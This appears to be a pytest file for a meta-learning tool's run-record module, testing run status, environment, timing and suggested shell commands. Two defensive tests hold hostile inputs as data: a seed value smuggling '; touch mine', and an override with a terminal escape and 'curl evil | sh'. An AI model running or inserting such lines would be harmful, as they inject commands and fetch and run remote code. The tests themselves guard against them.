"""The record of a run: how far it has come, and the commands that go on from it."""

import json
import shlex

import pytest
import yaml

from metadist.errors import UserError
from metadist.reports.run_record import (
    RunRecord,
    read_run_record,
    tasks_by_difficulty,
)
from metadist.reports.run_report import write_run_report


def record_of(directory, metrics=(), results=None, config=None, **files) -> RunRecord:
    """The record of a run directory with these files."""
    (directory / ".hydra").mkdir(parents=True, exist_ok=True)
    files = {"config": config or {}, "overrides": ["seed=3"], **files}
    for name, content in files.items():
        (directory / ".hydra" / f"{name}.yaml").write_text(yaml.safe_dump(content))
    text = "".join(json.dumps(line) + "\n" for line in metrics)
    (directory / "metrics.jsonl").write_text(text)
    if results is not None:
        (directory / "results.json").write_text(json.dumps(results))
    return read_run_record(directory)


def test_the_status_of_a_run_with_an_error(tmp_path):
    record_of(tmp_path)
    for error, status in (
        ("rank 0: failed\n", "failed"),
        ("stopped at iteration 3 of 9\n", "stopped"),
        ("ValueError: the server has stopped here", "failed"),
    ):
        (tmp_path / "error.txt").write_text(error)
        assert read_run_record(tmp_path).status(0.0) == status


def test_a_stopped_run_has_failed_if_a_later_job_failed_in_its_directory(tmp_path):
    record_of(tmp_path)
    (tmp_path / "error.txt").write_text("stopped at iteration 3 of 9\n")
    failure = {"error": "the options are of another run", "overrides": ["seed=4"]}
    (tmp_path / "failure.json").write_text(json.dumps(failure))
    record = read_run_record(tmp_path)
    assert (record.status(0.0), record.error) == ("failed", failure["error"])


def test_a_run_with_results_has_finished(tmp_path):
    record_of(tmp_path, results={"test_accuracy": 0.5})
    failure = {"error": "an earlier run is here", "overrides": ["algorithm.inner_lr=0.2"]}
    (tmp_path / "failure.json").write_text(json.dumps(failure))
    record = read_run_record(tmp_path)
    assert (record.status(0.0), record.error) == ("finished", "") and record.results is not None
    (tmp_path / "error.txt").write_text("the logger could not be closed\n")
    record = read_run_record(tmp_path)
    assert (record.status(0.0), record.error) == ("finished", "the logger could not be closed")


def test_what_a_job_of_a_sweep_left_at_its_start_is_read(tmp_path):
    failure = {"error": "no memory", "exit_status": 1, "overrides": ["seed=4"]}
    (tmp_path / "failure.json").write_text(json.dumps(failure))
    (tmp_path / "metrics.jsonl").touch()
    record = read_run_record(tmp_path)
    assert (record.error, record.overrides) == ("no memory", ["seed=4"])


def test_a_job_that_was_refused_beside_an_unfinished_run_has_its_own_overrides(tmp_path):
    record_of(tmp_path)
    failure = {"error": "an earlier run is here", "overrides": ["seed=4"]}
    (tmp_path / "failure.json").write_text(json.dumps(failure))
    assert read_run_record(tmp_path).overrides == ["seed=4"]
    (tmp_path / "results.json").write_text("{}")
    assert read_run_record(tmp_path).overrides == ["seed=3"]


def test_the_environment_is_that_of_the_start_and_of_the_test(tmp_path):
    start = {"python": "3.11", "torch": "2.9", "world_size": 4}
    (tmp_path / "environment.json").write_text(json.dumps(start))
    assert record_of(tmp_path).environment == start
    results = {"environment": {"torch": "2.10"}, "world_size": 2, "strategy": "rpc"}
    found = record_of(tmp_path, results=results).environment
    assert found == {"python": "3.11", "torch": "2.10", "world_size": 2, "strategy": "rpc"}


def test_a_number_of_iterations_that_is_an_interpolation_is_unknown(tmp_path):
    config = {"trainer": {"iterations": "${some.number}"}}
    assert record_of(tmp_path, config=config).iterations == (0, None)


def test_a_run_whose_metrics_are_old_has_ended(tmp_path):
    record = record_of(tmp_path, [{"iteration": 1, "train_loss": 1.0}])
    assert record.status(record.written + 299) == "running"
    assert record.status(record.written + 301) == "ended without results"


def test_the_metric_of_a_run_that_has_only_a_loss_in_training(tmp_path):
    lines = [{"iteration": 1, "train_loss": 1.0}, {"iteration": 1, "validation_mse": 0.5}]
    assert record_of(tmp_path, lines).metric == "mse"


@pytest.mark.parametrize("metric", ["accuracy", "mse"])
def test_the_title_is_that_of_the_run_before_and_after_its_end(tmp_path, metric):
    target = {"_target_": "metadist.algorithms.MAML"}
    config = {"task": {"ways": 5, "shots": 1}, "algorithm": target}
    hydra = {"hydra": {"runtime": {"choices": {"dataset": "some", "algorithm": "maml"}}}}
    metrics = [{"iteration": 1, f"train_{metric}": 0.5}]
    ways = {"accuracy": "5-way ", "mse": ""}[metric]
    record = record_of(tmp_path, metrics, config=config, hydra=hydra)
    assert (record.metric, record.title) == (metric, f"maml on some, {ways}1-shot")
    (tmp_path / ".hydra" / "hydra.yaml").unlink()
    assert read_run_record(tmp_path).title == f"MAML on dataset, {ways}1-shot"
    protocol = {"ways": 20, "shots": 2, "dataset": "other"}
    results = {f"test_{metric}": 0.5, "protocol": protocol, "method": {"algorithm": "ANIL"}}
    ways = {"accuracy": "20-way ", "mse": ""}[metric]
    record = record_of(tmp_path, (), results, config, hydra=hydra)
    assert (record.metric, record.title) == (metric, f"ANIL on other, {ways}2-shot")


@pytest.mark.parametrize(
    ("workers", "launcher", "program"),
    [
        (1, "none", "metadist"),
        (4, "none", "torchrun --standalone --nproc_per_node=4 -m metadist"),
        (4, "torchrun", "metadist"),
    ],
)
def test_commands_repeat_resume_and_replay(tmp_path, workers, launcher, program):
    directory = tmp_path / "a run"
    node = {"job": {"config_name": "ddp"}, "runtime": {"choices": {"launcher": launcher}}}
    metrics = [{"iteration": n, "train_loss": 1.0} for n in (1, 2)]
    metrics.append({"iteration": 9, "validation_loss": 1.0})
    results = {"world_size": workers, "protocol": {"eval_seed": 7}}
    config = {"seed": 3, "trainer": {"iterations": 5, "eval_seed": 8}}
    record = record_of(directory, metrics, results, config, hydra={"hydra": node})
    commands, run = record.commands(), shlex.quote(str(directory))
    assert commands["Repeat the run"] == f"{program} ddp seed=3"
    resume = shlex.join([f"hydra.run.dir={directory}", "resume=auto"])
    assert commands["Resume or continue it"] == f"{program} ddp seed=3 {resume}"
    assert commands["Replay a test task"] == f"metadist replay {run} --key 7,test,0,0"
    assert commands["Replay a training task"] == f"metadist replay {run} --key 3,train,2,0"
    assert commands["Make this report again"] == f"metadist report {run}"
    assert record.iterations == (2, 5)
    (directory / "results.json").unlink()
    (directory / "metrics.jsonl").write_text("")
    commands = read_run_record(directory).commands()
    assert commands["Replay a test task"].endswith("--key 8,test,0,0")
    assert commands["Replay a training task"].endswith("--key 3,train,1,0")


def test_commands_of_a_run_of_someone_else_are_quoted_and_trust_nothing(tmp_path):
    config = {"seed": "0; touch mine #", "model": {"_target_": "os.system"}}
    commands = record_of(tmp_path, config=config).commands()
    assert shlex.split(commands["Replay a training task"])[-1] == "0; touch mine #,train,1,0"
    assert not any("--trust-code" in command for command in commands.values())


def test_a_command_with_control_characters_is_left_out(tmp_path):
    (tmp_path / ".hydra").mkdir()
    hydra = {"hydra": {"job": {"config_name": "maml"}}}
    (tmp_path / ".hydra" / "config.yaml").write_text("seed: 1")
    (tmp_path / ".hydra" / "hydra.yaml").write_text(yaml.safe_dump(hydra))
    overrides = ["seed=1", "++a='\x1b[201~\ncurl evil | sh\n'"]
    for expected in (True, False):
        given = overrides[: 1 if expected else 2]
        (tmp_path / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(given))
        assert ("Repeat the run" in read_run_record(tmp_path).commands()) == expected


def test_the_error_of_another_file_is_not_read(tmp_path):
    (tmp_path / "private").write_text("a secret")
    run = tmp_path / "run"
    run.mkdir()
    (run / "error.txt").symlink_to(tmp_path / "private")
    assert RunRecord(run).error == ""


@pytest.mark.parametrize(
    "name",
    [
        *("results.json", "environment.json", "failure.json", "test_tasks.json"),
        *("test_predictions.jsonl", ".hydra/config.yaml", ".hydra/hydra.yaml"),
    ],
)
def test_other_files_that_links_name_are_refused(tmp_path, name):
    (tmp_path / "private").write_text("{}")
    record_of(tmp_path / "run")
    (tmp_path / "run" / name).unlink(missing_ok=True)
    (tmp_path / "run" / name).symlink_to(tmp_path / "private")
    with pytest.raises(UserError, match="it is a link to a file outside of"):
        write_run_report(tmp_path / "run")


def test_commands_have_the_directories_of_options(tmp_path):
    sources = [
        {"provider": "main", "schema": "pkg", "path": "metadist.conf"},
        {"provider": "hydra.searchpath in command-line", "schema": "file", "path": "/b"},
        {"provider": "command-line", "schema": "file", "path": "/a project/conf"},
    ]
    given = ["hydra.run.dir=x", "hydra.searchpath=[file:///b]"]
    node = {
        "job": {"config_name": "maml"},
        "runtime": {"config_sources": sources},
        "overrides": {"hydra": given, "task": ["seed=3"]},
    }
    commands = record_of(tmp_path, hydra={"hydra": node}).commands()
    repeat = shlex.split(commands["Repeat the run"])
    assert repeat == [
        *("metadist", "maml", "--config-dir", "/a project/conf"),
        *("hydra.searchpath=[file:///b]", "seed=3"),
    ]
    resume = [*repeat, f"hydra.run.dir={tmp_path}", "resume=auto"]
    assert shlex.split(commands["Resume or continue it"]) == resume


def test_a_program_of_the_users_own_has_no_command(tmp_path):
    node = {"job": {"config_name": "my_experiment"}}
    commands = record_of(tmp_path, hydra={"hydra": node}).commands()
    assert "Repeat the run" not in commands and "Resume or continue it" not in commands
    assert "Replay a test task" in commands


def test_the_parts_of_the_time_add_up(tmp_path):
    metrics = [{"iteration": n, "train_loss": 1.0, "seconds": 2.0 * n} for n in (1, 2, 3)]
    assert record_of(tmp_path, metrics).seconds() == {"training": 6.0}
    results = {"wall_seconds": 10.0, "evaluation_seconds": 1.0}
    parts = {"training": 6.0, "test": 1.0, "validation and checkpoints": 3.0}
    assert record_of(tmp_path, metrics, results).seconds() == parts
    del parts["validation and checkpoints"]
    results["wall_seconds"] = 6.5  # rounded, or measured by another clock
    assert record_of(tmp_path, metrics, results).seconds() == parts
    assert record_of(tmp_path / "none").seconds() == {}


def test_the_preset_is_that_of_the_command_line(tmp_path):
    found = record_of(tmp_path, overrides=["seed=1", "+experiment=maml_a", "experiments=no"])
    assert found.preset == "maml_a"
    assert record_of(tmp_path, overrides=["my.experiment=maml_a"]).preset == ""


@pytest.mark.parametrize(
    ("metric", "values", "losses", "expected"),
    [
        ("accuracy", [0.5, 0.25, 0.75, 0.25], [1, 1, 1, 2], [3, 1, 0, 2]),
        ("mse", [0.5, 0.25, 0.75, 0.25], [1, 1, 1, 2], [2, 0, 3, 1]),
        ("accuracy", [0.5, 0.0, "NaN"], [1, 1, 1], [2, 1, 0]),
        ("mse", [0.5, "NaN", 9.0], [1, 1, 1], [1, 2, 0]),
        ("mse", [1.0, 1.0, 1.0], [1, "NaN", 2], [1, 2, 0]),
    ],
)
def test_the_worst_task_comes_first(metric, values, losses, expected):
    tasks = [
        {"task": number, metric: value, "loss": loss}
        for number, (value, loss) in enumerate(zip(values, losses, strict=True))
    ]
    assert tasks_by_difficulty(tasks, metric) == expected
